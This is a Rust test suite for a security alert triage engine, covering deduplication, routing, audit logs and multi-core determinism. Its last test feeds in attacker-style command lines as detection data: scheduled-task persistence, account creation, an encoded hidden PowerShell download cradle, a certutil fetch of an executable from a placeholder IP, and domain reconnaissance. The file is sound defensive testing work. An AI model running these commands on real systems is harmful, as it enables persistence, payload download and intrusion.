//! The pipeline end to end on the shipped samples, over an in-memory store.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use warden_core::{Format, RouteKind, Verdict};
use warden_engine::{Config, Engine, Event, TriageResult};

/// An engine whose default workflow is supervised and out of burn-in, so
/// routing by confidence and verdict is live (a manager ended burn-in).
/// `govern` adds keys to the `[govern]` table.
fn live(govern: &str) -> Engine {
    let text = format!(
        "[govern]\nstage = \"supervised\"\nburn_in_days = 0\nqa_sample_rate = 0.0\n{govern}[govern.exit]\nmin_reviews = 0\n"
    );
    let config = Config::parse(&text, "t", Vec::new()).unwrap();
    let e = Engine::in_memory(config).unwrap();
    e.add_user(
        warden_core::Actor::User("setup".into()),
        "mia",
        &[warden_core::Role::Manager],
        "a long enough password",
    )
    .unwrap();
    let mia = e.check_password("mia", "a long enough password").unwrap();
    e.exit_burn_in(&mia, "default").unwrap();
    e
}

fn samples() -> Vec<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples");
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
    files.sort();
    files
}

fn run(engine: &Engine, file: &Path) -> (Vec<TriageResult>, usize) {
    let bytes = std::fs::read(file).unwrap();
    let name = file.file_name().unwrap().to_string_lossy().to_string();
    let mut results = Vec::new();
    let mut rejected = 0;
    engine
        .triage(&bytes, &name, None, &mut |e| match e {
            Event::Alert(r) => results.push(*r),
            Event::Rejected(_) => rejected += 1,
            Event::Progress { .. } => {}
        })
        .unwrap();
    (results, rejected)
}

fn find<'a>(results: &'a [TriageResult], file: &str, line: u64) -> &'a TriageResult {
    results
        .iter()
        .find(|r| r.origin.file == file && r.origin.location == warden_core::Location::Line(line))
        .unwrap_or_else(|| panic!("no result for {file}:{line}"))
}

#[test]
fn samples_flow_through_every_stage_and_the_audit_chain_holds() {
    let engine = live("");
    let before = engine.store().counts().unwrap().audit_entries;
    let mut all = Vec::new();
    let mut rejected = 0;
    for f in samples() {
        let (r, n) = run(&engine, &f);
        all.extend(r);
        rejected += n;
    }
    let formats: BTreeSet<Format> = all.iter().map(|r| r.format).collect();
    assert_eq!(formats.len(), Format::ALL.len(), "every format appears in the samples: {formats:?}");
    let routes: BTreeSet<RouteKind> = all.iter().map(|r| r.route).collect();
    assert_eq!(routes.len(), RouteKind::ALL.len(), "samples exercise every route: {routes:?}");
    assert!(rejected >= 5, "the mixed sample's broken lines are rejected");

    let counts = engine.store().counts().unwrap();
    assert_eq!(counts.alerts as usize, all.len());
    assert_eq!(counts.dead_letters as usize, rejected);
    // Five stage records per alert, one per rejected record, one per incident a batch opened or grew.
    let written = engine.store().audit_entries(before + 1, usize::MAX).unwrap();
    let incidents = written.iter().filter(|e| e.record.action.starts_with("incident.")).count();
    assert!(incidents > 0, "the queued samples are grouped into incidents");
    assert_eq!((counts.audit_entries - before) as usize, 5 * all.len() + rejected + incidents);
    assert_eq!(engine.verify_audit_log(None).unwrap().unwrap().entries, counts.audit_entries);

    // Everything stored reads back with its route, matching what was reported.
    for r in &all {
        let rec = engine.store().alert(&r.alert_id).unwrap().expect("stored");
        assert_eq!(rec.route.unwrap().kind, r.route);
    }
}

#[test]
fn known_attacks_and_benign_events_get_the_right_verdicts() {
    let engine = live("");
    let mut all = Vec::new();
    for f in samples() {
        all.extend(run(&engine, &f).0);
    }
    let mimikatz = find(&all, "sysmon-evtx.json", 58);
    assert_eq!((mimikatz.verdict, mimikatz.route), (Verdict::Malicious, RouteKind::Escalated));
    assert_eq!(mimikatz.techniques, ["T1003.001"]);
    let notepad = find(&all, "sysmon-evtx.json", 210);
    assert_eq!(notepad.verdict, Verdict::Benign);
    // A process start no detection found anything in is context, not a decision for anyone.
    assert_eq!(notepad.route, RouteKind::Context);
    assert!(notepad.reasons.iter().any(|r| r.starts_with("telemetry_no_detection")));
    let dns = find(&all, "suricata-eve.json", 4);
    assert_eq!((dns.verdict, dns.route), (Verdict::Benign, RouteKind::AutoClosed));
    let unknown = find(&all, "generic.ndjson", 4);
    assert_eq!(unknown.verdict, Verdict::Unknown);
    assert!(unknown.reasons.iter().any(|r| r.starts_with("verdict_unknown")));
    let encoded = find(&all, "sysmon-evtx.json", 2);
    assert_eq!(encoded.techniques, ["T1027", "T1059.001"]);
}

#[test]
fn a_second_run_reports_duplicates_and_analyses_nothing_again() {
    let dir = tempfile::tempdir().unwrap();
    let file = samples().into_iter().find(|p| p.ends_with("suricata-eve.json")).unwrap();
    let first = {
        let engine = Engine::open(dir.path(), Config::default()).unwrap();
        run(&engine, &file).0
    };
    let engine = Engine::open(dir.path(), Config::default()).unwrap();
    let audit_before = engine.store().counts().unwrap().audit_entries;
    let second = run(&engine, &file).0;
    assert_eq!(first.len(), second.len());
    for (a, b) in first.iter().zip(&second) {
        assert!(!a.duplicate && b.duplicate);
        assert_eq!((&a.alert_id, a.verdict, a.route), (&b.alert_id, b.verdict, b.route));
    }
    let c = engine.store().counts().unwrap();
    assert_eq!(c.alerts as usize, first.len());
    assert_eq!(c.duplicates as usize, first.len());
    assert_eq!(c.audit_entries - audit_before, first.len() as u64, "one deduplication record each, no re-analysis");
}

#[test]
fn duplicates_within_one_input_are_merged() {
    let engine = Engine::in_memory(Config::default()).unwrap();
    let line = br#"{"event_type":"dns","src_ip":"10.0.0.1","dns":{"rrname":"a.example"}}"#;
    let input = [&line[..], b"\n", line, b"\n", line].concat();
    let mut results = Vec::new();
    let s = engine
        .triage(&input, "dup", None, &mut |e| {
            if let Event::Alert(r) = e {
                results.push(r)
            }
        })
        .unwrap();
    assert_eq!((s.stored, s.duplicates), (1, 2));
    assert_eq!(results.iter().filter(|r| r.duplicate).count(), 2);
}

#[test]
fn dead_letters_keep_the_raw_bytes_and_the_reason() {
    let engine = Engine::in_memory(Config::default()).unwrap();
    let input = b"{\"ok\":1,\"event_type\":\"flow\",\"src_ip\":\"10.0.0.1\"}\n{\"bad\": \xff}\n";
    engine.triage(input, "x.ndjson", None, &mut |_| {}).unwrap();
    let dead = engine.store().dead_letters(10).unwrap();
    assert_eq!(dead.len(), 1);
    assert_eq!(dead[0].raw, b"{\"bad\": \xff}");
    assert_eq!(dead[0].origin.to_string(), "x.ndjson:2");
    assert!(dead[0].reason.contains("invalid UTF-8"), "{}", dead[0].reason);
}

#[test]
fn the_confidence_threshold_comes_from_configuration() {
    // Another product's alert that no local detection corroborates: benign at 0.6.
    let doc = r#"{"@timestamp":"2024-05-01T10:00:00Z","event":{"kind":"alert","code":"4688"},"host":{"name":"ws01"},"process":{"executable":"C:\\Windows\\System32\\notepad.exe"}}"#;
    let route = |engine: &Engine| {
        let mut out = Vec::new();
        engine
            .triage(doc.as_bytes(), "t", None, &mut |ev| {
                if let Event::Alert(r) = ev {
                    out.push(*r)
                }
            })
            .unwrap();
        let r = out.pop().unwrap();
        assert_eq!((r.verdict, r.confidence), (Verdict::Benign, 0.6), "{r:?}");
        r.route
    };
    assert_eq!(route(&live("")), RouteKind::Review, "0.6 is below the default 0.85");
    assert_eq!(route(&live("confidence_threshold = 0.5\n")), RouteKind::AutoClosed, "0.6 clears a 0.5 threshold");
    // Telemetry nothing found anything in is context whatever the threshold.
    let file = samples().into_iter().find(|p| p.ends_with("sysmon-evtx.json")).unwrap();
    let results = run(&live("confidence_threshold = 0.5\n"), &file).0;
    assert_eq!(find(&results, "sysmon-evtx.json", 210).route, RouteKind::Context);
}

#[test]
fn concurrent_checkpoint_writers_do_not_collide() {
    let dir = tempfile::tempdir().unwrap();
    let engine = Engine::open(dir.path(), Config::default()).unwrap();
    engine
        .triage(
            b"{\"event_type\":\"dns\",\"src_ip\":\"10.0.0.1\",\"dns\":{\"rrname\":\"a.example\"}}\n",
            "load",
            None,
            &mut |_| {},
        )
        .unwrap();
    std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                for _ in 0..50 {
                    engine.write_checkpoint().unwrap();
                }
            });
        }
    });
    let report = engine.verify_audit_log(None).unwrap().unwrap();
    assert!(!report.checkpoints.is_empty(), "{report:?}");
}

#[test]
fn a_flood_of_duplicates_costs_the_audit_log_one_entry_per_burst_and_every_copy_is_counted() {
    let engine = Engine::in_memory(Config::default()).unwrap();
    let line = br#"{"event_type":"dns","src_ip":"10.0.0.1","dns":{"rrname":"flood.example"}}"#;
    let input: Vec<u8> = std::iter::repeat_n([&line[..], b"\n"].concat(), 300).flatten().collect();
    let mut id = None;
    for _ in 0..3 {
        engine
            .triage(&input, "flood", None, &mut |e| {
                if let Event::Alert(r) = e {
                    id = Some(r.alert_id.clone());
                }
            })
            .unwrap();
    }
    let id = id.unwrap();
    let rec = engine.store().alert(&id).unwrap().unwrap();
    assert_eq!(rec.duplicates, 899, "every copy after the first is counted");
    let entries = engine.store().audit_for_object(id.as_str()).unwrap();
    let dedup = entries.iter().filter(|e| e.record.action == "ingest.deduplicated").count();
    assert_eq!(dedup, 1, "one entry for the burst, not one per copy");
}

#[test]
fn the_audit_frontier_is_resumed_at_start_and_a_bad_one_is_rebuilt() {
    let dir = tempfile::tempdir().unwrap();
    let line = |i: u32| format!("{{\"message\":\"frontier {i}\",\"host\":{{\"name\":\"h{i}\"}}}}\n");
    {
        let e = Engine::open(dir.path(), Config::default()).unwrap();
        e.triage(line(1).as_bytes(), "a", None, &mut |_| {}).unwrap();
    }
    let frontier = dir.path().join("checkpoints").join(".frontier");
    assert!(frontier.exists(), "the frontier is kept beside the checkpoints");
    {
        let e = Engine::open(dir.path(), Config::default()).unwrap();
        e.triage(line(2).as_bytes(), "b", None, &mut |_| {}).unwrap();
        assert!(e.verify_audit_log(None).unwrap().is_ok(), "checkpoints from a resumed frontier verify");
    }
    // A frontier that does not match the log is not trusted: it is rebuilt.
    std::fs::write(&frontier, "0000\n1\n0 00000000000000000000000000000000000000000000000000000000000000ff\n").unwrap();
    let e = Engine::open(dir.path(), Config::default()).unwrap();
    e.triage(line(3).as_bytes(), "c", None, &mut |_| {}).unwrap();
    let r = e.verify_audit_log(None).unwrap().expect("the log verifies");
    assert!(r.checkpoints.len() >= 3, "{:?}", r.checkpoints);
}

#[test]
fn a_redelivered_alert_that_is_stored_is_neither_analysed_nor_audited_again() {
    let engine = Engine::in_memory(Config::default()).unwrap();
    let line = br#"{"event_type":"alert","src_ip":"10.0.0.9","alert":{"signature":"ET TROJAN x"}}"#;
    let parsed = engine.parse_input(line, "queue", None);
    assert_eq!(parsed.len(), 1);
    let (first, dropped) = engine.triage_parsed(vec![(parsed[0].clone(), false)], &mut |_| {}).unwrap();
    assert_eq!((first.stored, dropped), (1, 0));
    let entries = engine.store().audit_len().unwrap();
    // The worker died between commit and acknowledgement: the stream delivers it again.
    let (again, dropped) = engine.triage_parsed(vec![(parsed[0].clone(), true)], &mut |_| {}).unwrap();
    assert_eq!((again.stored, again.duplicates, dropped), (0, 0, 1));
    assert_eq!(engine.store().audit_len().unwrap(), entries, "nothing audited for a redelivery");
    assert_eq!(engine.store().counts().unwrap().duplicates, 0, "nor counted as a repeat");
    // The same alert sent again by its source (a first delivery) is a repeat, as ever.
    let (repeat, dropped) = engine.triage_parsed(vec![(parsed[0].clone(), false)], &mut |_| {}).unwrap();
    assert_eq!((repeat.duplicates, dropped), (1, 0));
    // A redelivered alert that never got stored (its worker died before the commit) is processed.
    let other = engine.parse_input(br#"{"event_type":"alert","src_ip":"10.0.0.10"}"#, "queue", None);
    let (late, dropped) = engine.triage_parsed(vec![(other[0].clone(), true)], &mut |_| {}).unwrap();
    assert_eq!((late.stored, dropped), (1, 0));
}

/// Screening and protection run on several cores at once; what the local
/// analyzer remembers per host (weak signals that corroborate each other)
/// depends on the order alerts reach it, so the results must not depend on
/// the number of cores.
#[test]
fn the_results_are_the_same_on_one_core_and_on_several() {
    let commands = [
        "schtasks /create /tn t{} /tr c:\\t.exe /sc onlogon",
        "cmd.exe /c net user x{} /add",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{}",
        "certutil -urlcache -f http://198.51.100.7/{}.exe a.exe",
        "whoami /all & net group \"domain admins\" /domain & nltest /dclist:{}",
    ];
    let mut input = String::new();
    for i in 0..600usize {
        let line = serde_json::json!({
            "@timestamp": format!("2026-11-20T{:02}:{:02}:{:02}Z", i / 3600, (i / 60) % 60, i % 60),
            "event.kind": "event",
            "host.name": format!("ws-{:02}", (i * 7) % 9),
            "user.name": format!("user{}", (i * 5) % 11),
            "process.command_line": commands[(i * 3) % commands.len()].replace("{}", &i.to_string()),
        });
        input.push_str(&line.to_string());
        input.push('\n');
    }
    let run = |threads: usize| {
        let text = format!("[pipeline]\nbatch_size = 64\nthreads = {threads}\n");
        let engine = Engine::in_memory(Config::parse(&text, "t", Vec::new()).unwrap()).unwrap();
        let mut out = Vec::new();
        engine
            .triage(input.as_bytes(), "hosts.ndjson", None, &mut |e| {
                if let Event::Alert(r) = e {
                    out.push(serde_json::to_value(&*r).unwrap());
                }
            })
            .unwrap();
        out
    };
    let one = run(1);
    assert_eq!(one.len(), 600);
    assert!(
        one.iter().any(|r| r["summary"].as_str().unwrap_or("").contains("Correlated:")),
        "the input must make the analyzer's per-host memory matter"
    );
    assert_eq!(one, run(2), "two cores");
    assert_eq!(one, run(3), "three shares on two cores");
}
